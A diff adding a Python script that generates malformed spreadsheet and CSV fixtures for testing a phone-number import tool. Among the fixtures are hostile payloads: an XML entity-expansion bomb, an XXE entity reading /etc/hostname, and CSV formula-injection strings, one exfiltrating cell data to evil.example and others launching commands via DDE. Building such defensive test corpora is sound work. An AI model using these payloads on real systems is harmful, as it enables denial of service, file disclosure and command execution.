@@ -1,0 +1,540 @@
+"""Regenerate the corpus of bad inputs that ``tests/test_bad_inputs.py`` runs the CLI on.
+
+    python tests/data/bad/make_bad_inputs.py
+
+Every file here imitates something an agent is really handed: an empty export, a sheet
+with merged cells or #N/A, a CSV in cp1252 or UTF-16, a password-protected workbook, a
+zip bomb's cousin the XML bomb. What each must produce (exit code and the words of the
+message or of an exception row) is in ``expected.csv`` beside this script.
+
+Deterministic: workbooks are written by openpyxl and then re-zipped with fixed timestamps
+and document properties; the encrypted workbook uses a seeded salt; random bytes come
+from a seeded generator. Running the script twice gives the same bytes, so the committed
+files are exactly what it makes.
+"""
+
+from __future__ import annotations
+
+import codecs
+import datetime as dt
+import io
+import random
+import re
+import zipfile
+from collections.abc import Callable, Sequence
+from pathlib import Path
+
+from openpyxl import Workbook
+
+HERE = Path(__file__).parent
+FIXED_TIME = (2024, 1, 2, 3, 4, 6)  # zip timestamps (even seconds: DOS time)
+FIXED_STAMP = b"2024-01-02T03:04:05Z"
+CSR_HEADER = ["Phone Number", "Country", "Carrier", "Account Number", "Address", "PIN"]
+
+# --- writers -------------------------------------------------------------------------------
+
+
+def rezip(data: bytes, change: Callable[[str, bytes], bytes | None] | None = None) -> bytes:
+    """The same zip with fixed timestamps and properties; ``change`` may edit/drop members."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            member = source.read(info.filename)
+            if info.filename == "docProps/core.xml":
+                member = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", FIXED_STAMP, member)
+            if change is not None:
+                member = change(info.filename, member)
+                if member is None:
+                    continue
+            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
+            fixed.compress_type = zipfile.ZIP_DEFLATED
+            fixed.external_attr = 0o600 << 16
+            target.writestr(fixed, member)
+    return out.getvalue()
+
+
+def workbook(
+    sheets: dict[str, Sequence[Sequence[object]]],
+    *,
+    hidden: Sequence[str] = (),
+    merges: dict[str, Sequence[str]] | None = None,
+    change: Callable[[str, bytes], bytes | None] | None = None,
+) -> bytes:
+    """An .xlsx made by openpyxl (as many tools make them), then made reproducible."""
+    wb = Workbook()
+    wb.remove(wb.active)
+    for title, rows in sheets.items():
+        ws = wb.create_sheet(title)
+        for row in rows:
+            ws.append(list(row))
+        if title in hidden:
+            ws.sheet_state = "hidden"
+        for cells in (merges or {}).get(title, ()):
+            ws.merge_cells(cells)
+    wb.properties.creator = "make_bad_inputs"
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return rezip(buffer.getvalue(), change)
+
+
+def zip_of(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, data in members.items():
+            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            archive.writestr(info, data)
+    return out.getvalue()
+
+
+def csv_text(rows: Sequence[Sequence[str]], delimiter: str = ",") -> str:
+    """Rows joined the way exports do it (CRLF, quotes only where needed)."""
+
+    def cell(value: str) -> str:
+        if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
+            return '"' + value.replace('"', '""') + '"'
+        return value
+
+    return "".join(delimiter.join(cell(v) for v in row) + "\r\n" for row in rows)
+
+
+def replace_member(member: str, old: bytes, new: bytes) -> Callable[[str, bytes], bytes]:
+    def change(name: str, data: bytes) -> bytes:
+        if name != member:
+            return data
+        if old not in data:
+            raise AssertionError(f"{old!r} not in {member}")
+        return data.replace(old, new, 1)
+
+    return change
+
+
+SHEET1 = "xl/worksheets/sheet1.xml"
+
+# --- the shared rows ----------------------------------------------------------------------
+
+GOOD = ["(212) 736-1234", "212.736.1235", "+1 212 736 1236"]
+NAMES = ["Front desk", "Fax", "Café Ölçü – “Main”"]
+
+
+def numbers_csv(values: Sequence[str], extra: Sequence[str] | None = None) -> list[list[str]]:
+    """A header and one row per value, a label beside it."""
+    labels = list(extra or [f"line {i}" for i in range(1, len(values) + 1)])
+    return [["Phone Number", "Label"], *([v, labels[i]] for i, v in enumerate(values))]
+
+
+def csr_rows(*rows: Sequence[str]) -> list[list[str]]:
+    return [CSR_HEADER, *(list(row) for row in rows)]
+
+
+CSR_GOOD = [
+    ["2125550120", "US", "Bandwidth", "4471920", "100 Congress Ave, Austin, TX", ""],
+    ["6175550166", "US", "Onvoy, LLC", "4471920", "2200 S Lamar Blvd, Austin, TX", ""],
+]
+
+# --- XML payloads -----------------------------------------------------------------------
+
+BOMB = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
+<row r="1"><c r="A1" t="inlineStr"><is><t>Phone Number</t></is></c></row>
+<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>
+</sheetData></worksheet>"""
+
+XXE = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
+<row r="1"><c r="A1" t="inlineStr"><is><t>Phone Number</t></is></c></row>
+<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>
+</sheetData></worksheet>"""
+
+# Three real rows under a dimension that claims every cell Excel has.
+HUGE_DIMENSION = b'<dimension ref="A1:XFD1048576"/>'
+
+
+def _with_cached_values(name: str, data: bytes) -> bytes:
+    """Give sheet1's formula cells the values Excel saves with them (a text and an error)."""
+    if name != SHEET1:
+        return data
+    cached = {
+        b"A2": (b"str", b"2127361234"),
+        b"A3": (b"str", b"2127361235"),
+        b"A4": (b"e", b"#N/A"),
+    }
+
+    def fill(match: re.Match[bytes]) -> bytes:
+        kind, value = cached[match.group(1)]
+        return b'<c r="%s" t="%s"><f>%s</f><v>%s</v>' % (
+            match.group(1),
+            kind,
+            match.group(2),
+            value,
+        )
+
+    return re.sub(rb'<c r="(A[234])"><f>(.*?)</f><v></v>', fill, data)
+
+
+# --- the corpus ------------------------------------------------------------------------------
+
+
+def corpus() -> dict[str, bytes]:
+    """File name -> bytes. Names say what is wrong; expected.csv says what must happen."""
+    rng = random.Random(6)
+    files: dict[str, bytes] = {}
+
+    def text(name: str, rows: Sequence[Sequence[str]], encoding: str = "utf-8", **kw) -> None:
+        files[name] = csv_text(rows, **kw).encode(encoding)
+
+    # Empty files and sheets, header-only files, no header row.
+    files["empty.csv"] = b""
+    files["blank_lines.csv"] = b"\r\n   \r\n\t\r\n,,\r\n"
+    text("header_only.csv", [["Phone Number", "Carrier"]])
+    text("header_only_blank_rows.csv", [["Phone Number", "Carrier"], ["", ""], [" ", ""]])
+    files["empty_sheet.xlsx"] = workbook({"Sheet1": []})
+    files["header_only.xlsx"] = workbook({"DIDs": [["Phone Number", "Carrier"]]})
+    files["empty_first_sheet.xlsx"] = workbook(
+        {"Cover": [], "Numbers": [["Phone Number", "Carrier"], [GOOD[0], "AT&T"], ["TBD", ""]]}
+    )
+    files["only_hidden_sheets.xlsx"] = workbook(  # Excel refuses this; other tools write it
+        {"Numbers": [["Phone Number"], [GOOD[0]]]},
+        change=replace_member("xl/workbook.xml", b'state="visible"', b'state="hidden"'),
+    )
+    text("no_header.csv", [["2127361234"], ["2127361235"], ["2127361236"]])
+    files["no_header.xlsx"] = workbook({"Sheet1": [[2127361234, "AT&T"], [2127361235, "AT&T"]]})
+    text(
+        "header_below_row_30.csv",
+        [[f"note {i}", ""] for i in range(1, 36)] + [["Phone Number", "Carrier"], [GOOD[0], ""]],
+    )
+
+    # Duplicated or missing required columns, wrong sheet or column asked for.
+    text(
+        "duplicate_number_columns.csv",
+        [["Phone Number", "Carrier", "Phone Number"]] + [[GOOD[0], "AT&T", GOOD[1]]],
+    )
+    text(
+        "duplicate_carrier_columns.csv",
+        [["Phone Number", "Carrier", "carrier "]] + [[GOOD[0], "AT&T", "Verizon"]],
+    )
+    text("missing_number_column.csv", [["Name", "Carrier"], ["Bob", "AT&T"]])
+    text("csr_missing_carrier.csv", [["Phone Number", "Country", "Address"], [GOOD[0], "US", "1"]])
+    text("csr_missing_address.csv", [["Phone Number", "Country", "Carrier"], [GOOD[0], "US", "X"]])
+    text("csr_header_only.csv", [CSR_HEADER])
+    files["wrong_sheet_name.xlsx"] = workbook({"DIDs": [["Phone Number"], [GOOD[0]]]})
+    text("wrong_column_name.csv", numbers_csv(GOOD))
+
+    # Excel cells: merged, formulas (with and without saved values), errors, dates, floats.
+    files["merged_cells.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Customer numbers", None, None],
+                ["Phone Number", "Carrier", "Site"],
+                ["(212) 736-1234", "AT&T", "HQ"],
+                [None, "AT&T", "HQ annex"],
+                ["212.736.1235", "Verizon", "Branch"],
+            ]
+        },
+        merges={"Numbers": ["A1:C1", "A3:A4"]},
+    )
+    files["merged_other_column.xlsx"] = workbook(  # the number column is whole: fine
+        {
+            "Numbers": [
+                ["Phone Number", "Carrier", "Site"],
+                ["(212) 736-1234", "AT&T", "HQ"],
+                ["(212) 736-1235", "AT&T", None],
+                ["TBD", "AT&T", "Branch"],
+            ]
+        },
+        merges={"Numbers": ["C2:C3"]},
+    )
+    files["plan_merged_carrier.xlsx"] = workbook(
+        {
+            "DIDs": [
+                ["Phone Number", "Carrier"],
+                ["(212) 736-1234", "AT&T"],
+                ["(212) 736-1235", None],
+                ["(212) 736-1236", None],
+            ]
+        },
+        merges={"DIDs": ["B2:B4"]},
+    )
+    files["csr_merged_address.xlsx"] = workbook(
+        {"CSR": csr_rows(CSR_GOOD[0], [*CSR_GOOD[1][:4], None, ""])},
+        merges={"CSR": ["E2:E3"]},
+    )
+    files["formulas_without_values.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Phone Number", "Area", "Line"],
+                ["=B2&C2", "212", "7361234"],
+                ["=CONCATENATE(B3,C3)", "212", "7361235"],
+                ["212-736-1236", "212", "7361236"],
+            ]
+        }
+    )
+    files["formulas_with_values.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Phone Number", "Area", "Line"],
+                ["=B2&C2", "212", "7361234"],
+                ['=CONCATENATE(B3,"7361235")', "212", "7361235"],
+                ["=VLOOKUP(B4,Z:Z,1,FALSE)", "212", "7361236"],
+            ]
+        },
+        change=_with_cached_values,
+    )
+    files["formula_in_other_column.xlsx"] = workbook(  # never calculated, but not read
+        {
+            "Numbers": [
+                ["Phone Number", "Monthly", "Total"],
+                [GOOD[0], 10, "=B2*12"],
+                ["TBD", 10, "=B3*12"],
+            ]
+        }
+    )
+    files["error_values.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Phone Number", "Carrier"],
+                [GOOD[0], "AT&T"],
+                ["#N/A", "AT&T"],
+                ["#REF!", "#N/A"],
+                ["#VALUE!", "AT&T"],
+            ]
+        }
+    )
+    files["dates_in_numbers.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Phone Number", "Carrier"],
+                [GOOD[0], "AT&T"],
+                [dt.datetime(2012, 7, 3, 0, 0), "AT&T"],
+                [dt.date(1936, 12, 12), "AT&T"],
+                [dt.time(21, 27, 36), "AT&T"],
+            ]
+        }
+    )
+    files["floats_and_ints.xlsx"] = workbook(
+        {
+            "Numbers": [
+                ["Phone Number", "Carrier"],
+                [2127361234.0, "AT&T"],
+                [2127361235, "AT&T"],
+                [12127361236.0, "AT&T"],
+                [212.7361237, "AT&T"],
+                [True, "AT&T"],
+                [1.2345678901234568e19, "AT&T"],
+            ]
+        }
+    )
+    text(
+        "scientific_notation.csv",
+        numbers_csv(["2.12736E+09", "2.12736e9", "2127361234", "2127361235.0", "2.1E+10"]),
+    )
+    text(
+        "long_digit_strings.csv",
+        numbers_csv(["212736123412345", "2127361234123456", "21273612341234567890", "2127361234"]),
+    )
+    text(
+        "extensions.csv",
+        numbers_csv(
+            ["212-736-1234 x204", "212-736-1235 ext. 5", "(212) 736-1236 Ext 17", "2127361237"]
+        ),
+    )
+    text(
+        "unicode_digits.csv",
+        numbers_csv(
+            [
+                "２１２７３６１２３４",  # fullwidth: what Japanese input methods type
+                "٢١٢٧٣٦١٢٣٥",  # Arabic-Indic
+                "२१२७३६१२३६",  # Devanagari
+                "²¹²⁷³⁶¹²³⁷",  # superscripts: digits to the eye, not to Unicode
+                "212 736 1238",
+            ]
+        ),
+    )
+    text(
+        "lookalike_characters.csv",
+        numbers_csv(
+            [
+                "718-387-22O1",  # letter O
+                "718-387-22l2",  # letter l
+                "718-387-22\u041e3",  # Cyrillic capital O
+                "718\u2010387\u20102204",  # Unicode hyphens
+                "718\u00a0387\u00a02205",  # non-breaking spaces
+                "\u202a718-387-2206\u202c",  # bidi marks from a copy out of a web page
+            ]
+        ),
+    )
+    text(
+        "two_numbers_in_a_cell.csv",
+        numbers_csv(["212-736-1234, 212-736-1235", "212 736 1236 / 212 736 1237", GOOD[0]]),
+    )
+    text(
+        "duplicates.csv", numbers_csv([GOOD[0], "2127361234", "+1 212 736 1234", "1-212-736-1234"])
+    )
+    text(
+        "excel_text_formulas.csv",
+        numbers_csv(['="2127361234"', '="212-736-1235"', "2127361236", '="TBD"']),
+    )
+    text(
+        "formula_injection.csv",
+        numbers_csv(
+            [
+                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0",
+                "\t=1+1",
+                "+1 212 736 1234",
+            ],
+            extra=["=1+1", "@x", "+x", "-x", "ok", "\r=2+2"],
+        ),
+    )
+
+    # Encodings and delimiters: the accented label must come back exactly.
+    rows = numbers_csv([*GOOD, "TBD"], extra=[*NAMES, "junk"])
+    files["utf8.csv"] = csv_text(rows).encode("utf-8")
+    files["utf8_bom.csv"] = codecs.BOM_UTF8 + csv_text(rows).encode("utf-8")
+    cp_rows = numbers_csv([*GOOD, "TBD"], extra=["Front desk", "Fax", "Café – “Main”", "junk"])
+    files["cp1252.csv"] = csv_text(cp_rows).encode("cp1252")
+    files["utf16_bom.csv"] = csv_text(rows, delimiter="\t").encode("utf-16")
+    files["utf16le_no_bom.txt"] = csv_text(rows, delimiter="\t").encode("utf-16-le")
+    files["semicolons.csv"] = csv_text(
+        [["Phone Number", "Carrier", "Monthly cost"]]
+        + [[GOOD[0], "AT&T", "12,50"], [GOOD[1], "Verizon; Inc", "3,10"], ["TBD", "", "0,00"]],
+        delimiter=";",
+    ).encode("utf-8")
+    files["mac_line_endings.csv"] = csv_text(rows).replace("\r\n", "\r").encode("utf-8")
+    files["nul_bytes.csv"] = csv_text(rows).encode("utf-8").replace(b"Fax", b"F\x00ax")
+    late = numbers_csv([f"212736{i:04d}" for i in range(600)])
+    files["late_nul_bytes.csv"] = csv_text(late).encode("utf-8").replace(b"line 500", b"li\x00ne")
+    files["tab_text_named.xls"] = csv_text(rows, delimiter="\t").encode("cp1252", "replace")
+    files["unclosed_quote.csv"] = (
+        b'Phone Number,Label\r\n2127361234,"Front desk\r\n2127361235,Fax\r\n'
+    )
+    files["huge_cell.csv"] = csv_text(numbers_csv([GOOD[0], "x" * 200_000])).encode("utf-8")
+
+    # Files that are not what their name says, damaged, locked or hostile.
+    good_book = workbook({"Numbers": numbers_csv([*GOOD, "TBD"])})
+    files["password_protected.xlsx"] = encrypted(good_book, "s3cret")
+    files["corrupt_zip.xlsx"] = good_book[: len(good_book) // 2]
+    files["not_a_spreadsheet.xlsx"] = b"\x89PNG\r\n\x1a\n" + bytes(
+        rng.randrange(256) for _ in range(200)
+    )
+    files["image.png"] = files["not_a_spreadsheet.xlsx"]
+    files["pdf_named.csv"] = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
+    files["binary_named.csv"] = bytes(rng.randrange(256) for _ in range(3000)) + b"\x00" * 8
+    files["old_excel.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4088
+    files["web_page.xls"] = (
+        b"<html><body><table><tr><td>Phone Number</td></tr></table></body></html>"
+    )
+    files["word_document.xlsx"] = zip_of(
+        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+    )
+    files["opendocument.xlsx"] = zip_of(
+        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
+    )
+    files["plain_zip.xlsx"] = zip_of({"numbers.csv": b"Phone Number\r\n2127361234\r\n"})
+    files["binary_xlsb.xlsx"] = zip_of({"xl/workbook.bin": b"\x00\x01"})
+    files["missing_sheet_part.xlsx"] = workbook(
+        {"Numbers": numbers_csv(GOOD)}, change=lambda name, data: None if name == SHEET1 else data
+    )
+    files["broken_sheet_xml.xlsx"] = workbook(
+        {"Numbers": numbers_csv(GOOD)},
+        change=lambda name, data: data[: len(data) // 2] if name == SHEET1 else data,
+    )
+    files["xml_bomb.xlsx"] = workbook(
+        {"Numbers": numbers_csv(GOOD)}, change=lambda n, d: BOMB if n == SHEET1 else d
+    )
+    files["xml_external_entity.xlsx"] = workbook(
+        {"Numbers": numbers_csv(GOOD)}, change=lambda n, d: XXE if n == SHEET1 else d
+    )
+    files["huge_dimension.xlsx"] = workbook(
+        {"Numbers": numbers_csv([*GOOD, "TBD"])},
+        change=lambda n, d: (
+            re.sub(rb"<dimension ref=\"[^\"]*\"\s*/>", HUGE_DIMENSION, d) if n == SHEET1 else d
+        ),
+    )
+
+    # The planner and the CSR fix on bad rows.
+    text("plan_nothing_valid.csv", [["Phone Number", "Carrier"], ["TBD", "AT&T"], ["n/a", ""]])
+    files["plan_dates_and_errors.xlsx"] = workbook(
+        {
+            "DIDs": [
+                ["Phone Number", "Carrier"],
+                [GOOD[0], "AT&T"],
+                [dt.datetime(2024, 2, 12), "AT&T"],
+                ["#N/A", "Verizon"],
+                [GOOD[1], "#REF!"],
+            ]
+        }
+    )
+    text(
+        "csr_nulls_and_non_us.csv",
+        csr_rows(
+            *CSR_GOOD,
+            ["+44 20 7946 0958", "GB", "BT", "4471920", "1 Default Way, Austin, TX", ""],
+            ["3125550143", "US", "AT&T", "null", "NULL", "Null"],
+            ["TBD", "US", "AT&T", "4471920", "", ""],
+        ),
+    )
+    files["csr_error_values.xlsx"] = workbook(
+        {"CSR": csr_rows(*CSR_GOOD, ["#N/A", "US", "#REF!", "4471920", "#VALUE!", ""])}
+    )
+    text("csr_empty_numbers.csv", csr_rows(*CSR_GOOD, ["", "US", "AT&T", "4471920", "", ""]))
+    text(
+        "csr_repeated_numbers.csv",
+        csr_rows(*CSR_GOOD, ["(212) 555-0120", "US", "Bandwidth", "4471920", "1 Elm St", ""]),
+    )
+    files["csr_formulas_without_values.xlsx"] = workbook(
+        {"CSR": csr_rows(*CSR_GOOD[:1], [*CSR_GOOD[1][:4], '=CONCAT("2200 S Lamar")', ""])}
+    )
+    return files
+
+
+def encrypted(data: bytes, password: str) -> bytes:
+    """A real Agile-encrypted OOXML file (what Excel's "Encrypt with Password" writes).
+
+    msoffcrypto draws its salts from ``_random_buffer`` and stamps the OLE directory with
+    ``datetime.now()``: both are pinned here so the bytes repeat.
+    """
+    from msoffcrypto.format.ooxml import OOXMLFile
+    from msoffcrypto.method import ecma376_agile
+    from msoffcrypto.method.container import ecma376_encrypted
+
+    class FixedClock(dt.datetime):
+        @classmethod
+        def now(cls, tz: dt.tzinfo | None = None) -> dt.datetime:
+            return dt.datetime(2024, 1, 2, 3, 4, 5)
+
+    rng = random.Random(password)
+    saved = ecma376_agile._random_buffer, ecma376_encrypted.datetime
+    ecma376_agile._random_buffer = lambda size: bytes(rng.randrange(256) for _ in range(size))
+    ecma376_encrypted.datetime = FixedClock
+    try:
+        out = io.BytesIO()
+        OOXMLFile(io.BytesIO(data)).encrypt(password, out)
+    finally:
+        ecma376_agile._random_buffer, ecma376_encrypted.datetime = saved
+    return out.getvalue()
+
+
+def main() -> None:
+    files = corpus()
+    for name, data in sorted(files.items()):
+        (HERE / name).write_bytes(data)
+    print(f"wrote {len(files)} files to {HERE}")
+
+
+if __name__ == "__main__":
+    main()
